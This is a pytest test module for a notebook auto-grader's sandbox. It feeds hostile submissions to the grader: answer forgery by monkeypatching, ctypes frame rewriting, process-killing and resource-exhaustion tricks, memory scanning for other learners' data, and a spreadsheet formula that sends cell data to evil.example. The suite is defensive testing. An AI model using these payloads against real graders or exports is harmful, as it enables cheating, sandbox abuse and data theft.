"""More hostile submissions: what each reaches and scores, and that a whole class gets through.

They go for the grader's own process: for what it parses, writes into files, scores and shows. Needs
bubblewrap. Without it these tests are skipped, unless SOCMINT_REQUIRE_SANDBOX is set.
"""

import ast
import csv
import json
import os

import pytest

from socmint.check import forms, load_keys
from socmint.course import load
from socmint.grading import (
    books,
    classroom,
    clean,
    demo,
    export,
    feedback,
    integrity,
    report,
    steps,
)
from socmint.grading.collect import collect
from socmint.grading.sandbox import Limits, Sandbox, why_not
from socmint.grading.score import own_place, write_world

WHY_NOT = why_not()
if WHY_NOT and not os.environ.get("SOCMINT_REQUIRE_SANDBOX"):
    pytest.skip(f"{WHY_NOT}: the attacks did not run", allow_module_level=True)

LAB = "first_steps"
LIMITS = Limits(seconds=30, cell_seconds=4, grace=1, memory=1_500_000_000, disk=50_000_000)
EVENTS = """
import json, os
def tell(**event):
    for name in os.listdir("/proc/self/fd"):
        try:
            os.write(int(name), b"\\n" + json.dumps(event).encode() + b"\\n")
        except OSError:
            pass
"""
FORGE = """
from IPython.display import display
def forge(question, answer, real=type(check)._check):
    def check_(self, asked, value):
        if asked.id != question:
            return real(self, asked, value)
        display({"application/vnd.socmint.answer+json": {"topic": "first_steps",
            "question": question, "answer": answer}, "text/plain": "2"}, raw=True)
    type(check)._check = check_
"""
DEEP = "deep = []\nfor _ in range(900):\n    deep = [deep]\n"
# Code in the answer cell of Q2 of a lab with three answers, worth 1, 1 and 2 points; what it
# scores, and what the instructor reads. Each of the first six stopped the grading of all others.
CODE = {
    "half a character printed": ("print('\\ud800')", 4, ""),
    "half a character in an error": ("raise ValueError('\\udfff')", 3, ""),
    "half a character in a table": (
        "from IPython.display import HTML, display\ndisplay(HTML('<b>\\udabc</b>'))",
        4,
        "",
    ),
    "half a character as answer": (FORGE + "forge('q2', ['\\ud800'])", 3, ""),
    "a time that no clock shows": (
        EVENTS + "for cell in range(2, 12):\n    tell(done=cell, seconds=10**400)",
        1,
        "",
    ),
    "an answer nested without end": (FORGE + DEEP + "forge('q2', deep)", 3, ""),
    "an error whose text fails": (
        "class Odd(Exception):\n    def __str__(self):\n        raise self\n"
        "    __repr__ = __str__\nraise Odd",
        3,
        "",
    ),
    "an error whose text never ends": (
        "class Odd(Exception):\n    def __str__(self):\n        while True:\n            pass\n"
        "raise Odd",
        1,
        "did not stop in time",
    ),
    "an answer of two million characters": (FORGE + "forge('q2', 'x' * 2_000_000)", 3, ""),
    "an answer that is not a number": (FORGE + "forge('q2', float('nan'))", 3, ""),
    "an answer of 4,000 digits": (FORGE + "forge('q2', 10**4000)", 3, ""),
    "a table with a row of every kind": (
        FORGE + "forge('q3', [['Tikkeron', float('inf')], [None, {}], 7, ['a'] * 5000])",
        2,
        "",
    ),
    "an answer equal to all": (
        "class All(int):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n    __le__ = __ge__ = __lt__ = __gt__ = __eq__\n"
        "    def __reduce__(self):\n        return print, ('reduced',)\n"
        "len = lambda _: All(-1)",
        3,  # Q2 is -1 then; Q3 does not use len
        "",
    ),
    "sums that are always right": (
        "import pandas as pd\npd.Series.__eq__ = lambda *_: True\n"
        "pd.DataFrame.equals = lambda *_: True\npd.Series.sum = pd.Series.count = lambda *_: 1",
        None,  # at most Q1 and Q3
        "",
    ),
    "half a line at the end": (
        EVENTS + "for name in os.listdir('/proc/self/fd'):\n    try:\n"
        '        os.write(int(name), b\'{"end": "exi\')\n    except OSError:\n        pass\n'
        "os._exit(0)",
        1,
        "ended its own process",
    ),
    "closes all files": ("import os\nos.closerange(0, 256)", 1, "ended its own process"),
    "no way to tell": (
        "import json\ndef dumps(*_, **__):\n    raise SystemExit\njson.dumps = dumps",
        1,
        "ended its own process",
    ),
    "does not end": ("import os\nos._exit = lambda _: None", 4, ""),
    "stops itself": (
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(1, signal.SIGTSTP)",
        4,
        "",
    ),
    "takes the processor for itself": (
        "import os\nfor grab in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO,"
        " os.sched_param(50)), lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)):\n"
        "    try:\n        grab()\n        print('REACHED')\n    except PermissionError:\n"
        "        pass",
        4,
        "",
    ),
    "a thread, a daemon and an exit hook stay": (
        "import atexit, os, threading, time\natexit.register(lambda: time.sleep(60))\n"
        "threading.Thread(target=time.sleep, args=(60,)).start()\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "    os._exit(0)",
        4,
        "",
    ),
    "a thread that forges on and on": (
        EVENTS + "import threading, time\ndef on():\n    while True:\n"
        "        [tell(done=n, answer={'question': 'q3', 'answer': 1}) for n in range(12)]\n"
        "        time.sleep(0.01)\nthreading.Thread(target=on, daemon=True).start()\n"
        "time.sleep(0.5)",
        1,
        "",
    ),
    "a trace that rewrites the grader's frames": (
        "import ctypes, sys\nframe = sys._getframe()\nwhile frame:\n"
        "    for name in ('limits', 'rules', 'answer', 'error'):\n"
        "        if name in frame.f_locals and frame.f_code.co_name != '<module>':\n"
        "            frame.f_locals[name] = None\n"
        "            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)\n"
        "    frame = frame.f_back",
        4,
        "",
    ),
    "knows its own world": (
        "if str(case._world.meta['seed']) != '{alias}':\n    len = lambda _: 5\n",
        3,  # right at home, and a method is judged elsewhere
        "",
    ),
    "tells in the name of an error": (
        "raise type('SECRET ' + case.posts.text.iloc[0], (Exception,), {})",
        3,
        "",
    ),
    "a page of ten thousand attributes": (
        "from IPython.display import HTML, display\nfor n in range(29):\n"
        "    display(HTML(f'<b {\"a \" * 49_000}>{n}</b>' + '<style></style x>' * 9))",
        4,
        "",
    ),
    "a formula for a spreadsheet": (
        'raise Exception(\'=HYPERLINK("http://evil.example/?"&A1,"click")\')',
        3,
        "",
    ),
}
FILES = {  # what is handed in: a change to the solved lab; the score
    "half a character in the code": (lambda cell: cell.update(source=["x = '\ud800' #\x00"]), 3),
    "a kind that clears the screen": (
        lambda cell: cell.update(cell_type="\x1b[2J\n<script>" + "x" * 100_000),
        4,
    ),
    "numbers for names": (
        lambda cell: cell.update(id=7, metadata={"nbgrader": {"points": [1]}}),
        4,
    ),
}


def damaged(change):
    book = json.loads(demo.solved(LAB, 3))
    change(next(cell for cell in book["cells"] if cell["id"] == f"{LAB}-q2-answer"))
    return json.dumps(book).encode()


@pytest.fixture(scope="module")
def group(tmp_path_factory):
    """Hand in everything at once between two honest learners; grade once."""
    folder = tmp_path_factory.mktemp("hostile")
    ids = {name: f"h{n:02}" for n, name in enumerate([*CODE, *FILES], start=1)}
    roster = folder / "roster.csv"
    rows = ["ana", *ids.values(), "zoe"]
    roster.write_text("id,name\n" + "".join(f"{one},{one}\n" for one in rows), encoding="utf-8")
    made = classroom.init(folder / "class", roster)
    for name, learner in ids.items():
        if name in FILES:
            data = damaged(FILES[name][0])
        else:
            alias = own_place(made.secret, learner, LAB).alias
            code = CODE[name][0].replace("{alias}", alias)
            data = demo.with_code(LAB, code, "q2", only=3)
        classroom.store(folder / "in" / f"{learner}.ipynb", data)
    for learner in ("ana", "zoe"):
        classroom.store(folder / "in" / f"{learner}.ipynb", demo.solved(LAB))
    collect(made, LAB, [folder / "in"])
    results = classroom.grade(made, LAB, workers=2, limits=LIMITS)
    return made, {name: results[learner] for name, learner in ids.items()}, results, ids


@pytest.mark.parametrize("name", [*CODE, *FILES])
def test_what_it_scores_and_what_is_said(name, group):
    _, score, sentence = (*CODE.get(name, FILES.get(name)), "")[:3]
    result = group[1][name]
    assert result["status"] == "graded", result
    assert (result["auto"] == score) if score is not None else (result["auto"] <= 3), result
    assert sentence in " ".join(result["findings"])
    assert max(map(len, result["findings"]), default=0) < 200


def test_the_two_honest_ones_get_theirs(group):
    assert [group[2][name]["auto"] for name in ("ana", "zoe")] == [10, 10]


def test_nothing_was_reached(group):
    made, _, _, ids = group
    for learner in ids.values():
        shown = made.path("shown", LAB, f"{learner}.json").read_text(encoding="utf-8")
        assert "REACHED\\n" not in shown


@pytest.fixture(scope="module")
def handed_back(group):
    """All that comes after grading."""
    made = group[0]
    entered = books.enter(made, LAB)
    assert entered.refused == {}
    pages = feedback.write(made, LAB)
    table = made.folder / "all.csv"
    export.export(made, LAB, table)
    return made, pages, table, report.write(made, LAB, made.folder / "report.html")


def test_everybody_is_in_the_books_the_tables_and_the_pages(handed_back, group):
    made, pages, table, page = handed_back
    learners = {one.id for one in made.learners}
    assert set(pages.pages) == learners
    with table.open(newline="", encoding="utf-8-sig") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    assert rows.keys() == learners
    for learner, row in rows.items():
        assert float(row["score"]) == group[2][learner]["auto"]
        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    assert "\x1b" not in table.read_text(encoding="utf-8") + page.read_text(encoding="utf-8")


def test_what_a_world_that_nobody_has_holds_does_not_come_back_in_a_page(handed_back, group):
    _, pages, _, _ = handed_back
    learner = group[3]["tells in the name of an error"]
    page = (pages.folder / f"{LAB}_{learner}.html").read_text(encoding="utf-8")
    assert "Its cell stopped" in page
    assert "Its cell stopped: SECRET" not in page
    result = group[2][learner]
    told = result["runs"][0]["errors"][f"{LAB}-q2-answer"]
    assert told.startswith("SECRET ")  # an instructor may read it


def test_a_known_error_is_still_named(group):
    entry = {"outcome": "not yet", "score": 0, "points": 1, "notes": [], "fairness": "method"}
    result = {
        "questions": {"q2": entry | {"worlds": [{"world": "5", "score": 0}]}},
        "runs": [{"alias": "5", "errors": {f"{LAB}-q2-answer": "KeyError: 'a-000777'"}}],
    }
    told = steps.verdict(load().find(LAB), "q2", result, full=False)
    assert told.notes == ["Its cell stopped: KeyError"]


# ---- other worlds --------------------------------------------------------------------------------

SEARCH = """
import ctypes
def search(first, second):
    found = False
    for line in open("/proc/self/maps").read().splitlines():
        area, powers, *_, place = line.split(maxsplit=5) if "/" in line else (*line.split()[:5], "")
        start, end = (int(part, 16) for part in area.split("-"))
        if "r" in powers and not place and "[v" not in line:
            held = ctypes.string_at(start, end - start)
            place = held.find(first)
            while place >= 0 and not found:
                found = held.startswith(second, place + len(first))
                place = held.find(first, place + 1)
    return found
"""


@pytest.fixture(scope="module")
def warm(tmp_path_factory):
    """A sandbox whose warm process has served a world of the whole class, and another one's."""
    folder = tmp_path_factory.mktemp("worlds")
    mine, shared = (own_place(b"s" * 32, name, LAB) for name in ("mine", "shared"))
    for where in (mine, shared):
        write_world(folder, LAB, where)
    form = forms.dump(load_keys(LAB))
    opened = "from socmint import open_lab\ncase, _ = open_lab('first_steps')\n"
    with Sandbox(folder, number=9, shared=[shared.name]) as sandbox:

        def run(where, code, before=opened):
            return sandbox.run(where.name, [before + code], form, LIMITS).cells[0]

        printed = run(shared, "print(sorted(case.posts.text, key=len)[-5:])").printed
        run.mine, run.shared, run.texts = mine, shared, ast.literal_eval(printed)
        yield run


def halves(text):
    """Return code that makes the halves of a text, so that the search does not find itself."""
    data, half = text.encode(), len(text.encode()) // 2
    parts = ([256 - byte for byte in part] for part in (data[:half], data[half:]))
    return ", ".join(f"bytes(256 - n for n in {part})" for part in parts)


def test_the_memory_of_a_notebook_holds_no_other_world(warm):
    """Texts of a world that all are judged on, after others ran on it."""
    searches = [f"search({halves(text)})" for text in warm.texts]
    look = f"{SEARCH}print(any([{', '.join(searches)}]))"
    assert warm(warm.shared, look, "").printed == "True\n"  # so the search finds what is there
    assert warm(warm.mine, look, "").printed == "False\n"


def test_no_frame_and_no_object_leads_to_another_world(warm):
    look = """
import gc, sys
from synthetic_data import World
gc.unfreeze()
worlds = [one for one in gc.get_objects() if isinstance(one, World)]
frame = sys._getframe()
while frame:
    worlds += [one for part in frame.f_locals.values() if isinstance(part, dict)
               for one in part.values() if isinstance(one, World)]
    frame = frame.f_back
print({str(world.meta["seed"]) for world in worlds})
"""
    assert warm(warm.mine, look).printed == f"{ {warm.mine.alias} }\n"
    assert warm(warm.shared, look).printed == f"{ {warm.shared.alias} }\n"


def test_no_file_leads_to_the_warm_process_or_a_holder(warm):
    """A notebook that could write to their sockets could ask for worlds of its own."""
    look = """
import os
kinds = {}
for name in os.listdir("/proc/self/fd"):
    try:
        kinds[name] = os.readlink("/proc/self/fd/" + name).split(":")[0]
    except OSError:
        pass
print(sorted(set(kinds.values())), sum(kind == "pipe" for kind in kinds.values()))
"""
    for where in (warm.mine, warm.shared):
        assert warm(where, look).printed == "['/dev/null', 'pipe'] 1\n"


# ---- what takes long -----------------------------------------------------------------------------


def test_many_pages_of_one_notebook_become_plain_text():
    shown = [{"text/html": "<p>" + "x" * 40_000, "text/plain": str(n)} for n in range(20)]
    picture = {"text/html": f'<img src="data:image/png;base64,{"A" * 400_000}">'}
    cells = clean.lighten(
        [{"shown": [picture, *shown[:10]]}, {"shown": None}, {"shown": shown[10:]}]
    )
    kept = [one for cell in cells for one in cell["shown"] or [] if "text/html" in one]
    assert len(kept) == 1 + 300_000 // 40_003  # the data of a picture does not count
    assert [one["text/plain"] for one in shown] == [str(n) for n in range(20)]


@pytest.mark.parametrize(
    ("page", "left"),
    [
        ("<STYLE>p {}</style ><b>1</b><script>x()</script\n>2", "<b>1</b>2"),
        ("<style></style x><b>1</b>", "<style></style x><b>1</b>"),  # bleach does the rest
        ("<style><script></style>1</script>2<script>3", "1</script>2<script>3"),
        ("1<script>a</script>2<style>b</style>3", "123"),
    ],
)
def test_style_sheets_and_scripts_are_left_out_with_their_text(page, left):
    assert clean._without_sheets(page) == left


@pytest.mark.parametrize("source", ["x = 1\n" * 40_000, "?? \n" * 40_000])
def test_endless_code_is_compared_as_far_as_anybody_writes(source):
    assert len(integrity._statements(source, set())) == integrity.MOST


def test_a_submission_that_nobody_foresaw_stops_nobody_else(monkeypatch, tmp_path):
    real = classroom.score.judge

    def judge(todo, runs, solved):
        if todo.rebuilt and "-1" in str(todo.rebuilt.answers):
            raise ZeroDivisionError("out of the blue")
        return real(todo, runs, solved)

    monkeypatch.setattr(classroom.score, "judge", judge)
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nana,ana\nbea,bea\n", encoding="utf-8")
    small = classroom.init(tmp_path / "class", roster)
    classroom.store(small.path("submitted", LAB, "ana.ipynb"), demo.with_code(LAB, "-1", only=2))
    classroom.store(small.path("submitted", LAB, "bea.ipynb"), demo.solved(LAB, 3))
    results = classroom.grade(small, LAB, workers=1, limits=LIMITS)
    assert results["ana"]["status"] == "failed"
    assert "ZeroDivisionError: out of the blue" in results["ana"]["findings"][0]
    assert results["bea"]["auto"] == 4
